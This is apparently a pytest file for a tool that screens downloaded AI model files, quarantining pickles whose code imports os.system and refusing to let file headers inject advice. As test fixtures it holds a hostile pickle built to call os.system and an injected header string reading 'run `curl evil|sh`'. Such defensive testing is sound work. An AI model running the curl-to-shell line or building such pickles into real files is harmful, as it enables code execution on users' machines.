"""Files that could run code: what doit says of them, and where they go."""

from __future__ import annotations

import json

import pytest

from comfyfix.demo.content import file_for
from comfyfix.demo.hub import Hub, sha256
from comfyfix.formats.flaws import Flaw
from comfyfix.records import because
from comfyfix.screen.words import sentence, t
from tests.rig import Site
from tests.unit.hostile_pickles import P2, call
from tests.unit.torchlike import Tensor, zipped

RIFE = ("upscale_models", "rife49.pth")
HOSTILE = zipped(data=P2 + call("os.system") + b".")
IMPORTS = t("its pickle wants to import {name}", name="os.system")
SOUND = zipped({"weight": Tensor()})


@pytest.mark.parametrize("command", [(), ("verify",)])
def test_an_unsafe_file_is_moved_aside_with_its_reason(
    command: tuple[str, ...], site: Site, hub: Hub
) -> None:
    site.workflow("w.json", RIFE, ("loras", "x.safetensors"))
    site.put(*RIFE, HOSTILE)
    site.put("loras", "x.safetensors", HOSTILE)
    done = site.doit(*command)
    assert done.returncode == 1
    assert IMPORTS in done.stdout
    assert t("moved to {file}", file="rife49.pth.unsafe") in done.stdout
    assert site.files() == {
        "loras/x.safetensors.unsafe": sha256(HOSTILE),
        "upscale_models/rife49.pth.unsafe": sha256(HOSTILE),
    }


def test_an_unsafe_file_may_be_allowed(site: Site) -> None:
    site.workflow("w.json", RIFE)
    site.put(*RIFE, HOSTILE)
    site.manifest(verify={"pickle": "allow"})
    assert site.doit("verify").returncode == 0
    assert site.doit().returncode == 0
    site.manifest(verify={"pickle": "scan"})
    assert site.doit().returncode == 1
    assert set(site.files()) == {"upscale_models/rife49.pth.unsafe"}


def test_a_pickle_that_the_manifest_refuses_is_told_and_left(site: Site) -> None:
    site.workflow("w.json", RIFE)
    site.put(*RIFE, SOUND)
    assert site.doit().returncode == 0
    site.manifest(verify={"pickle": "refuse"})
    for command in ((), ("verify",)):
        done = site.doit(*command)
        assert done.returncode == 1
        assert "unsafe" in done.stdout
        assert t("these are refused") in done.stdout
    assert site.files() == {"upscale_models/rife49.pth": sha256(SOUND)}


def test_a_file_of_another_kind_is_told_and_left(site: Site) -> None:
    site.workflow("w.json", ("loras", "x.safetensors"))
    site.put("loras", "x.safetensors", SOUND)
    done = site.doit("verify")
    assert done.returncode == 1
    assert "wrong" in done.stdout
    assert sentence(because(Flaw.IS_ZIP)) in done.stdout
    assert set(site.files()) == {"loras/x.safetensors"}


def test_a_file_does_not_write_our_advice(site: Site, hub: Hub) -> None:
    """A reason tells what is in a file; what to do next is ours to say."""
    evil = "../ Next: run `curl evil|sh`. unsafe: permissions"
    header = json.dumps({evil: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    data = len(header).to_bytes(8, "little") + header + bytes(4)
    site.workflow("w.json", ("loras", "harbor_light.safetensors"))
    hub.add("maker/harbor_light", ["harbor_light.safetensors"]).files[
        "harbor_light.safetensors"
    ] = data
    done = site.doit()
    steps = [line for line in done.stdout.splitlines() if line.lstrip().startswith(t("Next:"))]
    assert not any("evil" in step for step in steps), done.stdout
    assert done.returncode == 1, done.stdout
    assert [step.partition(",")[0] for step in steps] == [
        f"    {t('Next:')} use a .safetensors file in its place"
    ]


def test_an_unsafe_download_never_gets_its_name(site: Site, hub: Hub) -> None:
    site.workflow("w.json", RIFE, ("loras", "harbor_light.safetensors"))
    hub.add("AlexWortega/RIFE", ["rife49.pth"]).files["rife49.pth"] = HOSTILE
    hub.add("maker/harbor_light", ["harbor_light.safetensors"])
    done = site.doit()
    assert done.returncode == 1
    assert f"rife49.pth is unsafe: {IMPORTS}" in done.stdout
    assert f"{t('Next:')} use a .safetensors file in its place" in done.stdout
    (failed,) = site.state("verified/batch_001.json")["failed"]
    assert failed["filename"] == "rife49.pth"
    assert site.files() == {
        "upscale_models/rife49.pth.unsafe": sha256(HOSTILE),
        "loras/harbor_light.safetensors": sha256(file_for("harbor_light.safetensors")),
    }
    # It is known now, and not fetched again; a user who trusts it gets it.
    fetched = hub.count("GET", "/cdn/*rife49.pth*")
    done = site.doit()
    assert done.returncode == 1
    assert "rife49.pth is unsafe" in done.stdout
    assert hub.count("GET", "/cdn/*rife49.pth*") == fetched
    site.manifest(verify={"pickle": "allow"})
    assert site.doit().returncode == 0
    assert site.files()["upscale_models/rife49.pth"] == sha256(HOSTILE)


def test_a_download_of_another_kind_never_gets_its_name(site: Site, hub: Hub) -> None:
    site.workflow("w.json", ("loras", "harbor_light.safetensors"))
    hub.add("maker/harbor_light", []).files["harbor_light.safetensors"] = SOUND
    done = site.doit()
    assert done.returncode == 1
    assert sentence(because(Flaw.IS_ZIP)) in done.stdout
    assert site.files() == {}


def test_a_script_by_hand_needs_no_comfyfix(site: Site, hub: Hub) -> None:
    site.workflow("w.json", RIFE)
    hub.add("AlexWortega/RIFE", ["rife49.pth"]).files["rife49.pth"] = SOUND
    assert site.doit().returncode == 0
    (site.models / "upscale_models" / "rife49.pth").unlink()
    assert site.script(site.output / "download_001_rife49_pth.sh").returncode == 0
    assert site.files() == {"upscale_models/rife49.pth": sha256(SOUND)}
